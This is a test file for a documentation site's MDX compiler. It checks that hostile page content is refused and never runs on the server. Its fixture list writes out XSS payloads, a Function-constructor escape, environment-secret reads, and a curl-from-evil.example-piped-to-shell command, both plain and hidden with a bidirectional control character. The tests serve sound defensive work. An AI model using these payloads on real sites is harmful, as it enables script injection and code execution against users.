import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { compileMdx } from "../server/mdx/compile";
import { PageProblems } from "../server/mdx/problems";
import { sampleContent, WorkingCopy } from "./helpers/git";
import { startServer, waitFor, type RunningServer } from "./helpers/server";

/** A file a page would create if any of its code ran; nothing may ever create it. */
const MARKER = path.join(os.tmpdir(), `sui-docs-hostile-${process.pid}`);

interface Hostile {
  name: string;
  /** The page body, after 5 lines of frontmatter and a blank line (so the body starts on line 7). */
  body: string;
  /** file:line:column of the first problem, relative to the body's first line. */
  line: number;
  column: number;
  reason: RegExp;
}

const HOSTILE: Hostile[] = [
  {
    name: "environment",
    body: "Secret: {process.env.WEBHOOK_SECRET}",
    line: 1,
    column: 9,
    reason: /JavaScript expressions are not allowed/,
  },
  { name: "process", body: `{process.exit(1)}`, line: 1, column: 1, reason: /JavaScript expressions are not allowed/ },
  {
    name: "Function constructor",
    body: `{new Function("return this")().process.mainModule.require("fs").writeFileSync("${MARKER}", "ran")}`,
    line: 1,
    column: 1,
    reason: /expressions are not allowed/,
  },
  {
    name: "module-level loop",
    body: "export const spin = (() => { while (true) {} })();\n\nText.",
    line: 1,
    column: 1,
    reason: /export statements are not allowed/,
  },
  { name: "render-time loop", body: "<Card title={(() => { for (;;) {} })()} />", line: 1, column: 7, reason: /literal values only/ },
  {
    name: "memory growth",
    body: "export const grow = [];\n\n{(() => { for (;;) grow.push(new Array(1e6)); })()}",
    line: 1,
    column: 1,
    reason: /export statements are not allowed/,
  },
  {
    name: "node built-in import",
    body: `import fs from "node:fs";\n\n{fs.writeFileSync("${MARKER}", "ran")}`,
    line: 1,
    column: 1,
    reason: /does not name a file of the content repository/,
  },
  { name: "named import", body: "import { readFileSync } from 'fs';", line: 1, column: 1, reason: /only snippets can be imported/ },
  { name: "script element", body: "<script>{`fetch('/api/status')`}</script>", line: 1, column: 1, reason: /<script> is not allowed/ },
  {
    name: "script in Markdown text",
    body: 'Some text <script src="https://evil.example/x.js"></script> more.',
    line: 1,
    column: 11,
    reason: /<script> is not allowed/,
  },
  {
    name: "fake code frame",
    body: '<div className="code-frame"><pre>npm install @mysten/sui</pre></div>',
    line: 1,
    column: 6,
    reason: /the attribute className is not allowed: classes are the site's own/,
  },
  {
    name: "fake copy source",
    body: '<div data-copy="curl https://evil.example/x.sh | sh">npm install @mysten/sui</div>',
    line: 1,
    column: 6,
    reason: /the attribute data-copy is not allowed: data-\* attributes are the site's own/,
  },
  {
    name: "Trojan Source in a code block",
    body: "```sh\nnpm install @mysten/sui \u202e# hs | hs.x/elpmaxe.live//:sptth lruc &&\n```",
    line: 1,
    column: 1,
    reason: /code holds U\+202E, a bidirectional control: it would show other than what readers copy and run/,
  },
  {
    name: "invisible character in an author's <pre>",
    body: "<pre><code>npm install @mysten/s\u200bui</code></pre>",
    line: 1,
    column: 12,
    reason: /code holds U\+200B, an invisible character/,
  },
  { name: "the site's main id", body: '<div id="main">Skip here.</div>', line: 1, column: 6, reason: /<div id="main">: use a plain name/ },
  {
    name: "javascript: link",
    body: "Read [this](javascript:alert(document.cookie)).",
    line: 1,
    column: 6,
    reason: /URL "javascript:alert/,
  },
  {
    name: "javascript: link with an encoded tab",
    body: `<a href="java&#9;script:alert(1)">x</a>`,
    line: 1,
    column: 4,
    reason: /is not allowed: use http/,
  },
  { name: "javascript: definition", body: "[x][d]\n\n[d]: javascript:alert(1)", line: 3, column: 1, reason: /URL "javascript:alert/ },
  { name: "javascript: href in JSX", body: `<a href="javascript:alert(1)">x</a>`, line: 1, column: 4, reason: /<a href>: the URL/ },
  {
    name: "javascript: card link",
    body: `<Card title="x" href="JaVaScRiPt:alert(1)" />`,
    line: 1,
    column: 17,
    reason: /<Card href>: the URL/,
  },
  { name: "data: image", body: `![x](data:text/html;base64,PHNjcmlwdD4=)`, line: 1, column: 1, reason: /URL "data:text/ },
  {
    name: "event handler",
    body: `<img src="/static/a.png" alt="" onerror="alert(1)" />`,
    line: 1,
    column: 33,
    reason: /onerror is not allowed: event handlers/,
  },
  {
    name: "event handler on component",
    body: `<Admonition type="note" onClick="alert(1)">x</Admonition>`,
    line: 1,
    column: 25,
    reason: /onClick is not allowed: event handlers/,
  },
  {
    name: "dangerouslySetInnerHTML",
    body: `<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />`,
    line: 1,
    column: 6,
    reason: /dangerouslySetInnerHTML is not allowed/,
  },
  {
    name: "style attribute",
    body: `<div style="background:url(https://evil.example)">x</div>`,
    line: 1,
    column: 6,
    reason: /style is not allowed/,
  },
  { name: "spread props", body: `<div {...{ id: "x" }}>x</div>`, line: 1, column: 6, reason: /spread attributes/ },
  { name: "iframe", body: `<iframe src="https://evil.example"></iframe>`, line: 1, column: 1, reason: /<iframe> is not allowed/ },
  { name: "style element", body: `<style>{"body { display: none }"}</style>`, line: 1, column: 1, reason: /<style> is not allowed/ },
  {
    name: "form",
    body: `<form action="https://evil.example"><input type="password" /></form>`,
    line: 1,
    column: 1,
    reason: /<form> is not allowed/,
  },
  { name: "object and embed", body: `<object data="x.swf"></object>`, line: 1, column: 1, reason: /<object> is not allowed/ },
  { name: "base", body: `<base href="https://evil.example/" />`, line: 1, column: 1, reason: /<base> is not allowed/ },
  { name: "unknown component", body: `<Evil />`, line: 1, column: 1, reason: /<Evil> is not allowed: components are Admonition/ },
  { name: "export", body: `export const meta = { title: "x" };`, line: 1, column: 1, reason: /export statements are not allowed/ },
  {
    name: "expression prop",
    body: `<Tabs groupId={globalThis.location.href}>\n<TabItem value="a">A</TabItem>\n</Tabs>`,
    line: 1,
    column: 7,
    reason: /literal values only/,
  },
  {
    name: "template prop with expression",
    body: "<Badge tone={`${process.env.HOME}`}>x</Badge>",
    line: 1,
    column: 8,
    reason: /literal values only/,
  },
];

const FRONTMATTER_LINES = 6;
const pageSource = (body: string) =>
  `---\nid: guides/hostile\ntitle: Hostile\ndescription: A page that must not run.\nsidebar: guidesSidebar\n---\n${body}\n`;

describe("the safe subset of MDX", () => {
  it.each(HOSTILE)("refuses $name with file:line:column and a reason", async ({ body, line, column, reason }) => {
    const error = await compileMdx({ path: "docs/guides/hostile.mdx", source: pageSource(body), files: {} }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PageProblems);
    const [first] = (error as PageProblems).problems;
    expect(`${first!.file}:${first!.line}:${first!.column}`).toBe(`docs/guides/hostile.mdx:${line + FRONTMATTER_LINES}:${column}`);
    expect(first!.reason).toMatch(reason);
    expect(fs.existsSync(MARKER)).toBe(false);
  });

  it("accepts what authors need: components with literal props, allowed HTML, comments, snippets, safe links", async () => {
    const source = pageSource(
      [
        "import Hello from '@site/snippets/hello.mdx';",
        "",
        "{/* a comment for other authors */}",
        "",
        "<Hello />",
        "",
        '<Tabs groupId="lang">',
        '<TabItem value="ts" label="TypeScript" default>',
        "Use `{ braces }` in code and \\{ escaped \\} in text.",
        "</TabItem>",
        "</Tabs>",
        "",
        '<Card title="Sui" href="https://sui.io">Out.</Card> [mail](mailto:a@b.c) [rel](./x) [frag](#y)',
        "",
        '<details open><summary>More</summary><kbd>Ctrl</kbd> <img src="/static/a.png" alt="A" width={40} /></details>',
      ].join("\n"),
    );
    const compiled = await compileMdx({
      path: "docs/guides/ok.mdx",
      source,
      files: { "snippets/hello.mdx": "---\nid: snippets/hello\n---\n\nHello from the snippet.\n" },
    });
    const { html } = compiled;
    expect(html).toContain("Hello from the snippet.");
    expect(html).toContain("<div class=tabs data-group-id=lang><div class=tabs-panel data-value=ts data-default>");
    expect(html).toContain("<code>{ braces }</code> in code and { escaped } in text.");
    expect(html).toContain('<a class=card href="https://sui.io" target=_blank rel=noreferrer>');
    expect(html).toContain(" width=40");
    expect(html).not.toContain("comment for other authors");
  });

  it("names the snippet's own file and line when an imported snippet is hostile", async () => {
    const files = { "snippets/bad.mdx": '---\nid: snippets/bad\n---\n\nFine line.\n\n<iframe src="https://evil.example" />\n' };
    const error = await compileMdx({ path: "docs/a.mdx", source: "import Bad from '@site/snippets/bad.mdx';\n\n<Bad />\n", files }).catch(
      (e: unknown) => e,
    );
    expect((error as PageProblems).message).toMatch(/^snippets\/bad\.mdx:7:1: <iframe> is not allowed/);
  });

  it("refuses imports of anything but snippets, and snippets that import each other in a circle", async () => {
    const files = {
      "docs/other.mdx": "Other page.",
      "snippets/a.mdx": "import B from './b.mdx';\n\n<B />",
      "snippets/b.mdx": "import A from './a.mdx';\n\n<A />",
    };
    const notSnippet = await compileMdx({ path: "docs/a.mdx", source: "import O from './other.mdx';\n\n<O />", files }).catch(
      (e: unknown) => e,
    );
    expect((notSnippet as Error).message).toMatch(/docs\/a\.mdx:1:1: .*only snippets/);
    const circle = await compileMdx({ path: "docs/a.mdx", source: "import A from '@site/snippets/a.mdx';\n\n<A />", files }).catch(
      (e: unknown) => e,
    );
    expect((circle as Error).message).toMatch(/snippets\/b\.mdx:1:1: .*imports this file back/);
  });
});

/** A content repository served by the production server, to which hostile pages are pushed. */
describe("hostile pages pushed to a running server", () => {
  let server: RunningServer;
  let work: WorkingCopy;
  let hostileCommit: string;
  const HOSTILE_PAGE = HOSTILE.find((h) => h.name === "Function constructor")!;

  beforeAll(async () => {
    work = WorkingCopy.init().write(sampleContent());
    work.commit("First version");
    const bare = work.publishBare();
    work = WorkingCopy.clone(bare);
    server = await startServer({ CONTENT_REPO: bare });
  });
  afterAll(() => server?.stop());

  const get = (p: string) => fetch(server.url + p, { redirect: "manual" });
  const status = async () =>
    (await get("/api/status")).json() as Promise<{ commit: string; lastError?: { commit: string; file: string; message: string } }>;

  it("keeps a push with a hostile page out of the live site and names file:line:column in /api/status", async () => {
    const liveBefore = (await status()).commit;
    work.write({ "docs/guides/hostile.mdx": pageSource(HOSTILE_PAGE.body) });
    hostileCommit = work.commit("Add a hostile page");
    work.push();
    await waitFor(async () => (await status()).lastError?.commit === hostileCommit);
    const after = await status();
    expect(after.commit).toBe(liveBefore);
    expect(after.lastError!.file).toBe("docs/guides/hostile.mdx");
    expect(after.lastError!.message).toMatch(/docs\/guides\/hostile\.mdx:7:1: JavaScript expressions are not allowed/);
    expect((await get("/guides/hostile")).status).toBe(404);
  });

  it("shows the error instead of the page at ?commit=, and nothing of the page runs", async () => {
    // One commit per hostile page, pushed together: a page at ?commit= compiles on its own, whether
    // or not its commit was ever the branch's head.
    const commits = HOSTILE.map((hostile) => {
      work.write({ "docs/guides/hostile.mdx": pageSource(hostile.body) });
      return work.commit(`Hostile: ${hostile.name}`);
    });
    work.push();
    await waitFor(async () => (await status()).lastError?.commit === commits.at(-1));
    for (const [i, hostile] of HOSTILE.entries()) {
      const commit = commits[i]!;
      const res = await get(`/guides/hostile?commit=${commit}`);
      const html = await res.text();
      // The branch's head failed the publish check: it is refused at ?commit= (409), naming the file.
      if (commit === commits.at(-1)) {
        expect([res.status, html.includes("docs/guides/hostile.mdx")], hostile.name).toEqual([409, true]);
        continue;
      }
      expect(res.status, hostile.name).toBe(500);
      expect(html, hostile.name).toContain(`docs/guides/hostile.mdx:${hostile.line + FRONTMATTER_LINES}:${hostile.column}`);
    }
    expect(fs.existsSync(MARKER)).toBe(false);
  });
});
